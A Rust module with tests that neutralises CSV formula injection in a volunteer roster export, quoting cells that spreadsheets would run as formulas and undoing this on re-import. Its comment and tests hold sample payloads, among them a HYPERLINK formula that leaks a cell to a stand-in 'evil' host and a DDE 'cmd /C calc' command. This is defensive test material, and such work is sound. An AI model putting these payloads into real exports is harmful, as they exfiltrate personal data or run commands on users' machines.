//! Spreadsheet-safe CSV cells (OWASP "CSV injection").
//!
//! A volunteer's note such as `=HYPERLINK("http://evil/?leak="&F2,"click")` would run as a
//! formula when a coordinator opens the roster CSV in Excel or WPS, and could send other
//! households' data to a stranger. Every CSV the relay writes passes each cell through
//! [`neutralise`]: a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
//! single quote in front, which spreadsheets show as text.
//!
//! Two decisions, so that real rosters survive:
//!
//! - **Numbers and phone numbers are left alone.** A cell that starts with `+` or `-` and holds
//!   nothing after it but digits, spaces and `. ( )` (a phone number like `+86 139 1234 5678`, a
//!   basement floor `-1`) cannot name a cell, call a function or open a link, nor be worked out
//!   as a sum. Quoting them would put a quote into every international phone number of an export
//!   and its re-import. A sign after the first (`+86-139-1234-5678`, `-2+3`) is quoted: Excel
//!   would open it as arithmetic and show -6965 for the phone number. A cell starting with `=` or
//!   `@` is always quoted, whatever follows.
//! - **A cell holding only an error value's text** (`#N/A`, `#REF!`: a volunteer's note can say
//!   that) is quoted too, so that re-imported it is the note it was, not a formula that failed
//!   ([`formula_error`]).
//! - **A cell that already starts with a quote gets one more**, so that [`restore`] can undo
//!   [`neutralise`] exactly: the relay reads its own roster CSV back to lay the same rows into
//!   the .xlsx download (where cells are typed text and need no quote).
//!
//! The roster importer passes every cell through [`restore`], so an exported roster re-imports
//! with its notes exactly as they were.

use std::borrow::Cow;

use crate::import::formula_error;

/// The characters that make a spreadsheet read a cell as a formula.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a cell starting with `+` or `-` is only a number or a phone number: one sign, then
/// digits, spaces, dots and parentheses.
fn is_plain_number(cell: &str) -> bool {
    let rest = cell.get(1..).unwrap_or("");
    rest.chars().any(|c| c.is_ascii_digit())
        && rest.chars().all(|c| c.is_ascii_digit() || matches!(c, ' ' | '.' | '(' | ')'))
}

/// Whether `cell` must be quoted before it goes into a CSV file.
pub fn needs_quote(cell: &str) -> bool {
    match cell.chars().next() {
        Some('\'') => true,
        Some('+' | '-') => !is_plain_number(cell),
        Some('#') => formula_error(cell).is_some(),
        Some(c) => TRIGGERS.contains(&c),
        None => false,
    }
}

/// `cell` as it is safe to write into a CSV file: quoted if a spreadsheet would run it.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if needs_quote(cell) { Cow::Owned(format!("'{cell}")) } else { Cow::Borrowed(cell) }
}

/// Undoes [`neutralise`], for a cell read back from a CSV file the relay wrote.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_and_their_disguises_are_quoted() {
        for cell in [
            "=HYPERLINK(\"http://evil/?leak=\"&F2,\"click\")",
            "=1+1",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "=",
            "-",
            "+",
            "'already quoted",
            "+86-139-1234-5678",
            "-2+3",
            "--1",
            "#N/A",
            "#ref!",
        ] {
            assert_eq!(neutralise(cell), format!("'{cell}"), "{cell:?}");
            assert_eq!(restore(&neutralise(cell)), cell, "{cell:?} round trip");
        }
    }

    #[test]
    fn ordinary_text_numbers_and_phone_numbers_are_left_alone() {
        for cell in [
            "",
            "张三",
            "19908923609",
            "+86 139 1234 5678",
            "+86 (139) 1234.5678",
            "-1",
            "#3",
            "#N/A 待查",
            "-2.5",
            "(010) 1234",
            "行动不便 -轮椅",
            "a=b",
        ] {
            assert_eq!(neutralise(cell), cell, "{cell:?}");
            assert_eq!(restore(cell), cell, "{cell:?}");
        }
    }

    #[test]
    fn restore_only_removes_the_quote_neutralise_added() {
        assert_eq!(restore("'=1"), "=1");
        assert_eq!(restore("''x"), "'x");
        assert_eq!(restore("'x"), "'x", "a quote before ordinary text was typed by someone");
        assert_eq!(restore("'-1"), "'-1", "a quote before a number was typed by someone");
    }
}
